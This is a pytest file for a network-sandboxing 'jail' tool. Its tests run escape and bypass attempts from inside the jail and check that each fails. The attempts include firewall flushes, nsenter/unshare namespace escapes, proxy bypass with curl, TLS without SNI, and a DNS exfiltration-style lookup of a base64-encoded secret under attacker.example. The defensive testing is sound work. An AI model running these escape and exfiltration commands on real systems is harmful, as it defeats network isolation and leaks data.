"""Strong mode (root): adversarial tests run from inside the jail. Each bypass must fail and the
target must see nothing."""

from __future__ import annotations

import ipaddress
import json
import os
import shlex
import signal
import subprocess
import tempfile
import textwrap
import time
from pathlib import Path

import psutil
import pytest

from jail.platform.netns import existing_jail_ids, strong_mode_unavailable
from jail.proxy.dns import SYNTHETIC_NETWORK
from tests.conftest import DENIED_NAME, PYTHON, TEST_NAME, UPSTREAM_HOST, host_addresses, jail_argv, wait_for

unavailable = strong_mode_unavailable()
pytestmark = pytest.mark.skipif(unavailable is not None, reason=f"strong mode unavailable: {unavailable}")


def jailed_python(run_jail, code: str, *flags: str, timeout: float = 60):
    return run_jail(*flags, "--", PYTHON, "-c", textwrap.dedent(code), timeout=timeout)


PROBE = """
import socket, sys, json
results = {}
def tcp(host, port):
    # Any TCP port of any address reaches jail, which closes a stream the rule denies: "answered" only
    # if a byte came from somewhere.
    try:
        s = socket.create_connection((host, port), timeout=3); s.settimeout(3)
        outcome = "answered" if s.recv(1) else "closed"; s.close(); return outcome
    except OSError as e:
        return type(e).__name__
"""


def test_direct_tcp_udp_and_other_ports_fail_fast(run_jail, listener):
    targets = [*host_addresses(), "10.233.0.1", "192.0.2.1"]
    code = (
        PROBE
        + f"""
import time
own_host_side = open("/etc/resolv.conf").read().split()[1]  # jail's host-side veth address
targets = {targets!r} + [own_host_side]
for host in targets:
    start = time.monotonic()
    results[host] = (tcp(host, {listener.port}), round(time.monotonic() - start, 2))
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        u.sendto(b"leak", (host, {listener.port}))
    except OSError:
        pass
try:
    socket.create_connection(("2001:db8::1", 443), timeout=3)
    results["v6"] = "connected"
except OSError as e:
    results["v6"] = type(e).__name__
results["own_host_side"] = own_host_side
print(json.dumps(results))
"""
    )
    result = jailed_python(run_jail, code, "--js", "r.scheme !== 'tcp'")
    assert result.returncode == 0, result.stderr
    results = json.loads(result.stdout)
    assert results.pop("own_host_side") in results, "the jail's own host-side address must be probed"
    for host, (outcome, seconds) in ((h, v) for h, v in results.items() if isinstance(v, list)):
        assert outcome != "answered", host
        assert seconds < 2, f"{host}: a blocked connection must fail at once, took {seconds}s"
    assert results["v6"] != "connected"
    time.sleep(0.5)
    assert listener.seen == []


def test_noproxy_client_is_intercepted_and_judged(run_jail, named_upstreams):
    http, https = named_upstreams
    rule = f"r.host === '{TEST_NAME}'"
    base = ["curl", "-sS", "--noproxy", "*", "--max-time", "20", "-o", "/dev/null", "-w", "%{http_code} "]
    for scheme, upstream in (("http", http), ("https", https)):
        ok = run_jail("--js", rule, "--", *base, f"{scheme}://{TEST_NAME}/allowed")
        denied = run_jail("--js", rule, "--", *base, f"{scheme}://{DENIED_NAME}/x")
        assert ok.stdout.strip() == "200", (scheme, ok.stdout, ok.stderr)
        assert denied.stdout.strip() == "403", (scheme, denied.stdout, denied.stderr)
        assert [r["path"] for r in upstream.requests] == ["/allowed"]
        assert all(r["host"] == TEST_NAME for r in upstream.requests)


def test_tls_without_sni_is_refused_with_a_logged_reason(run_jail, named_upstreams, tmp_path):
    _, https = named_upstreams
    audit = tmp_path / "audit.jsonl"
    code = """
import socket, ssl
s = socket.create_connection(("jail-upstream.test", 443), timeout=10)
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
t = ctx.wrap_socket(s)  # no server_hostname: no SNI
t.sendall(b"GET / HTTP/1.1\\r\\nHost: jail-upstream.test\\r\\nConnection: close\\r\\n\\r\\n")
data = b""
while chunk := t.recv(4096):
    data += chunk
print(data.decode(errors="replace"))
"""
    result = jailed_python(run_jail, code, "--js", "true", "--audit-log", str(audit))
    assert " 403 " in result.stdout.splitlines()[0], result.stdout + result.stderr
    assert "without SNI" in result.stdout
    assert https.connections == []
    records = [json.loads(line) for line in audit.read_text().splitlines()]
    assert any(r.get("reason_code") == "no_sni" for r in records)


def test_sni_allowed_but_host_header_denied_is_misdirected_and_reaches_nothing(run_jail, named_upstreams):
    _, https = named_upstreams
    result = run_jail(
        "--js",
        f"r.host === '{TEST_NAME}'",
        "--",
        "curl",
        "-sS",
        "--noproxy",
        "*",
        "-H",
        f"Host: {DENIED_NAME}",
        "-w",
        "%{http_code}",
        f"https://{TEST_NAME}/h",
    )
    assert result.stdout.endswith("421") and f"names {DENIED_NAME}" in result.stdout, result.stdout
    assert https.connections == []


def test_dns_is_answered_with_a_synthetic_address_and_recorded(run_jail, tmp_path):
    audit = tmp_path / "audit.jsonl"
    code = """
import socket, json, struct
name = "c2VjcmV0.attacker.example"
answer = socket.gethostbyname(name)
# A direct query to an outside resolver must fail.
q = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01"
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
try:
    u.sendto(q, ("8.8.8.8", 53)); u.recvfrom(512); outside = "answered"
except OSError as e:
    outside = type(e).__name__
print(json.dumps({"answer": answer, "outside": outside, "resolv": open("/etc/resolv.conf").read()}))
"""
    result = jailed_python(run_jail, code, "--js", "true", "--audit-log", str(audit))
    seen = json.loads(result.stdout)
    assert ipaddress.ip_address(seen["answer"]) in SYNTHETIC_NETWORK, "a name resolves to a synthetic address"
    assert seen["outside"] != "answered"
    queries = [json.loads(line) for line in audit.read_text().splitlines()]
    assert any(q.get("kind") == "dns" and q["name"] == "c2VjcmV0.attacker.example" for q in queries)


@pytest.mark.parametrize(
    "attempt",
    [
        "nft flush ruleset",
        "ip link set lo down",
        "ip route add 192.0.2.0/24 dev lo",
        "unshare -n true",
        "nsenter --net=/proc/1/ns/net true",
        "ip netns exec x true",
    ],
)
def test_root_child_cannot_change_or_leave_its_network(run_jail, attempt, listener):
    host = host_addresses()[0]
    # Connecting reaches jail (every TCP port is redirected to it), which closes the denied stream: only
    # a byte from the listener would be an escape.
    probe = f"import socket; s = socket.create_connection(('{host}', {listener.port}), timeout=2); s.settimeout(2); assert s.recv(1)"
    script = f'{attempt}; echo status=$?; {PYTHON} -c "{probe}" 2>/dev/null; echo after=$?'
    result = run_jail("--js", "r.scheme !== 'tcp'", "--", "sh", "-c", script)
    assert "status=0" not in result.stdout, result.stdout + result.stderr
    assert "after=0" not in result.stdout
    assert listener.seen == []


@pytest.mark.skipif(
    not Path("/usr/bin/ping").exists() and not Path("/bin/ping").exists(), reason="ping is not installed"
)
def test_icmp_does_not_leave(run_jail):
    result = run_jail(
        "--js", "true", "--", "sh", "-c", "ping -c 1 -W 2 $(awk '{print $2}' /etc/resolv.conf); echo status=$?"
    )
    assert "status=0" not in result.stdout
    assert " 0% packet loss" not in result.stdout


def test_child_has_no_capabilities_and_no_new_privs(run_jail):
    result = run_jail("--js", "true", "--", "sh", "-c", "grep -E '^(CapEff|CapBnd|NoNewPrivs)' /proc/self/status")
    fields = dict(line.split(":\t") for line in result.stdout.splitlines())
    assert int(fields["CapEff"], 16) == 0 and int(fields["CapBnd"], 16) == 0
    assert fields["NoNewPrivs"].strip() == "1"


def test_child_runs_as_the_sudo_user(run_jail, jail_env):
    result = run_jail("--js", "true", "--", "id", "-u", env={**jail_env, "SUDO_UID": "65534", "SUDO_GID": "65534"})
    assert result.stdout.strip() == "65534"


def test_strong_mode_without_sbin_on_path(run_jail, jail_env, named_upstreams):
    """root's tools (ip, nft) live in sbin, which a service's or a user's PATH may lack: still the strong mode."""
    env = {**jail_env, "PATH": "/usr/bin:/bin"}
    result = run_jail(
        "--js",
        f"r.host === '{TEST_NAME}'",
        "--",
        "curl",
        "-sS",
        "--max-time",
        "10",
        "-o",
        "/dev/null",
        "-w",
        "%{http_code}",
        f"http://{TEST_NAME}/sbin",
        env=env,
    )
    assert result.stdout == "200", result.stdout + result.stderr
    assert "isolated" not in result.stderr and "missing" not in result.stderr, result.stderr
    assert [r["path"] for r in named_upstreams[0].requests] == ["/sbin"]


def start_jail(jail_env, seconds: str) -> tuple[subprocess.Popen, str]:
    """A strong jail whose child prints its jail id and then sleeps; returns the process and the id."""
    process = subprocess.Popen(
        jail_argv("--js", "true", "--", "sh", "-c", f'echo "$JAIL_ID"; exec sleep {seconds}'),
        env=jail_env,
        stdout=subprocess.PIPE,
        text=True,
    )
    return process, process.stdout.readline().strip()


def test_nothing_is_left_after_a_normal_run_and_after_ctrl_c(run_jail, jail_env):
    finished = run_jail("--js", "true", "--", "sh", "-c", 'echo "$JAIL_ID"')
    jail_id = finished.stdout.strip()
    assert len(jail_id) == 8 and jail_id not in existing_jail_ids()
    process, jail_id = start_jail(jail_env, "61.5")
    assert jail_id in existing_jail_ids()
    process.send_signal(signal.SIGINT)
    process.wait(20)
    assert jail_id not in existing_jail_ids()


def test_sigkilled_jail_is_cleaned_by_cleanup_without_touching_a_running_one(run_jail, jail_env):
    survivor, survivor_id = start_jail(jail_env, "62.5")
    victim, victim_id = start_jail(jail_env, "63.5")
    try:
        assert {survivor_id, victim_id} <= existing_jail_ids()
        victim.kill()
        victim.wait()
        assert victim_id in existing_jail_ids(), "a SIGKILLed jail leaves its resources until cleanup"
        cleanup = run_jail("--cleanup")
        assert cleanup.returncode == 0 and victim_id in cleanup.stdout
        assert victim_id not in existing_jail_ids()
        assert not list(Path(tempfile.gettempdir()).glob(f"jail-{victim_id}-*")), "its work and temp dirs go too"
        assert survivor_id in existing_jail_ids(), "the running jail must be left alone"
        assert survivor.poll() is None
        assert wait_for(
            lambda: not any("63.5" in (p.info["cmdline"] or []) for p in psutil.process_iter(["cmdline"])), 5
        ), "the killed jail's child must not live on"
    finally:
        survivor.terminate()
        survivor.wait(20)
    assert wait_for(lambda: survivor_id not in existing_jail_ids(), timeout=10)


def test_two_concurrent_jails_keep_their_own_rules(jail_env, named_upstreams):
    base = ["curl", "-s", "--noproxy", "*", "-o", "/dev/null", "-w", "%{http_code}"]
    loop = f"for i in 1 2 3 4 5; do {shlex.join(base)} http://{TEST_NAME}/$i; echo; done"
    allow = subprocess.Popen(
        jail_argv("--allow-private", f"{UPSTREAM_HOST}/32", "--js", "true", "--", "sh", "-c", loop),
        env=jail_env,
        stdout=subprocess.PIPE,
        text=True,
    )
    deny = subprocess.Popen(
        jail_argv("--allow-private", f"{UPSTREAM_HOST}/32", "--js", "false", "--", "sh", "-c", loop),
        env=jail_env,
        stdout=subprocess.PIPE,
        text=True,
    )
    allowed, _ = allow.communicate(timeout=60)
    denied, _ = deny.communicate(timeout=60)
    assert allowed.split() == ["200"] * 5
    assert denied.split() == ["403"] * 5


def test_exit_code_and_signals_propagate(run_jail):
    assert run_jail("--js", "true", "--", "sh", "-c", "exit 9").returncode == 9
    assert run_jail("--js", "true", "--", "sh", "-c", "kill -KILL $$").returncode == 137


def test_weak_flag_forces_weak_mode(run_jail):
    result = run_jail(
        "--weak", "--js", "true", "--", "sh", "-c", "test -e /proc/self/ns/net && readlink /proc/self/ns/net"
    )
    assert result.stdout.strip() == os.readlink("/proc/self/ns/net")


def test_the_jails_link_takes_loopback_sized_packets(run_jail):
    """It carries only connections to jail's proxy and resolver on this host; bulk transfers through
    it cost the kernel far fewer packets than at 1500 bytes."""
    result = run_jail("--js", "true", "--", "sh", "-c", "cat /sys/class/net/vj_*/mtu")
    assert result.stdout.split() == ["65535"], result.stdout + result.stderr
